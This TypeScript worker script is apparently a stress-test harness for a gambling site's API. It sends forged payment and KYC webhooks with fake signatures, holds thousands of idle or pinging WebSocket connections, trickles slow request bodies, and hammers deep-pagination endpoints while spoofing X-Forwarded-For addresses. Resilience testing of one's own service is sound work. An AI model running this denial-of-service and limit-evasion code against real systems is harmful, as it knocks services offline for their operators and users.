import { randomBytes } from 'node:crypto';
import net from 'node:net';
import { workerData } from 'node:worker_threads';

export type Attack =
  | 'nothing'
  | 'forged webhooks'
  | 'forged webhooks of many addresses'
  | 'sockets'
  | 'slow bodies'
  | 'deep pages'
  | 'deep pages of many addresses'
  | 'all of them at once';

/** `cookie` is the session of a player with many bets, for requests of deep pages. */
const { url, attack, cookie } = workerData as { url: string; attack: Attack; cookie: string };
const isAll = attack === 'all of them at once';
const { hostname, port, host } = new URL(url);

const WEBHOOKS_PER_SECOND = 200;
const BODY = Buffer.concat([Buffer.from('{"id":"'), Buffer.alloc(64 * 1024 - 16, 'x'), Buffer.from('"}')]);
const DOORS = [
  '/api/webhooks/fireblocks',
  '/api/webhooks/payadmit',
  '/api/webhooks/sumsub',
  '/api/webhooks/skinsback-events',
  `/api/webhooks/skinsback/01a20991-e7d3-7ea7-900c-353b81b6417c/${'0'.repeat(64)}`,
];
const IDLE_SOCKETS = 2_000;
const PINGING_SOCKETS = 50;
const SLOW_BODIES = 300;
const DEEP_PAGES = 20;
const DEEP = [
  '/api/fairness/roulette/history?limit=100&page=99',
  '/api/fairness/case-battles/history?limit=100&page=99',
  '/api/fairness/rain/history?page=499',
  '/api/wallet/transactions/games?page=499',
  '/api/wallet/transactions/rewards?page=499',
];
const REFUSED_MS = 100;
const AGAIN_MS = 5_000;
/** A WebSocket ping frame, with a mask of zeros. */
const PING = Buffer.from([0x89, 0x80, 0, 0, 0, 0]);

function open(text: string | Buffer): net.Socket {
  const socket = net.connect(Number(port), hostname);
  socket.on('error', () => {}).resume();
  socket.write(text);
  return socket;
}

/** Sends one forged webhook on a new connection. */
function forge(count: number): void {
  const isSpread = attack === 'forged webhooks of many addresses';
  const address = isSpread ? `198.51.${(count >> 8) & 0xff}.${count & 0xff}` : '192.0.2.1';
  const head =
    `POST ${DOORS[count % DOORS.length]} HTTP/1.1\r\nhost: ${host}\r\nx-forwarded-for: ${address}\r\n` +
    `content-type: application/json\r\ncontent-length: ${BODY.length}\r\nconnection: close\r\n` +
    `signature: ${'0'.repeat(64)}\r\nx-payload-digest: ${'0'.repeat(64)}\r\nx-payload-digest-alg: HMAC_SHA256_HEX\r\n` +
    `fireblocks-webhook-signature: eyJhbGciOiJSUzUxMiJ9..${'A'.repeat(342)}\r\n\r\n`;
  open(Buffer.concat([Buffer.from(head), BODY]));
}

function forgeAlways(): void {
  let sent = 0;
  const began = performance.now();
  setInterval(() => {
    const due = ((performance.now() - began) / 1000) * WEBHOOKS_PER_SECOND;
    for (; sent < due; sent += 1) forge(sent);
  }, 5);
}

const upgrade = () =>
  `GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\nhost: ${host}\r\norigin: ${url}\r\n` +
  'x-forwarded-for: 192.0.2.1\r\nconnection: Upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 13\r\n' +
  `sec-websocket-key: ${randomBytes(16).toString('base64')}\r\n\r\n`;

/**
 * Keeps a connection open: sends `first`, then `again.bytes` at an interval if given. Reconnects a few seconds after
 * the connection was closed.
 */
function hold(first: () => string, again?: { bytes: Buffer; everyMs: number }): void {
  const socket = open(first());
  const timer = again && setInterval(() => socket.write(again.bytes), again.everyMs);
  socket.once('close', () => {
    clearInterval(timer);
    setTimeout(() => hold(first, again), AGAIN_MS * (0.5 + Math.random()));
  });
}

/**
 * Requests deep pages (far down a list) one after another, with a pause after each refusal. Acts as visitors from many
 * addresses or as a single player, depending on the attack.
 */
async function leaf(first: number): Promise<never> {
  const isSpread = attack === 'deep pages of many addresses';
  const pages = isSpread ? DEEP.filter((path) => path.startsWith('/api/fairness')) : DEEP;
  for (let count = first; ; count += DEEP_PAGES) {
    const headers: Record<string, string> = isSpread
      ? { 'x-forwarded-for': `198.51.${(count >> 8) & 0xff}.${count & 0xff}` }
      : { cookie, 'x-forwarded-for': '192.0.2.1' };
    const status = await fetch(`${url}${pages[count % pages.length]}`, { headers })
      .then(async (reply) => {
        await reply.arrayBuffer();
        return reply.status;
      })
      .catch(() => 0);
    if (status !== 200) await new Promise((resolve) => setTimeout(resolve, REFUSED_MS));
  }
}

if (isAll || attack.startsWith('forged')) forgeAlways();
if (isAll || attack === 'sockets') {
  for (let count = 0; count < IDLE_SOCKETS; count += 1) hold(upgrade);
  const pings = Buffer.concat(Array<Buffer>(100).fill(PING));
  for (let count = 0; count < PINGING_SOCKETS; count += 1) hold(upgrade, { bytes: pings, everyMs: 10 });
}
if (isAll || attack === 'slow bodies') {
  const head = () =>
    `POST /api/chat HTTP/1.1\r\nhost: ${host}\r\norigin: ${url}\r\nx-forwarded-for: 192.0.2.1\r\n` +
    'content-type: application/json\r\ncontent-length: 8000\r\n\r\n';
  for (let count = 0; count < SLOW_BODIES; count += 1) hold(head, { bytes: Buffer.from(' '), everyMs: 100 });
}
if (isAll || attack.startsWith('deep')) for (let count = 0; count < DEEP_PAGES; count += 1) void leaf(count);
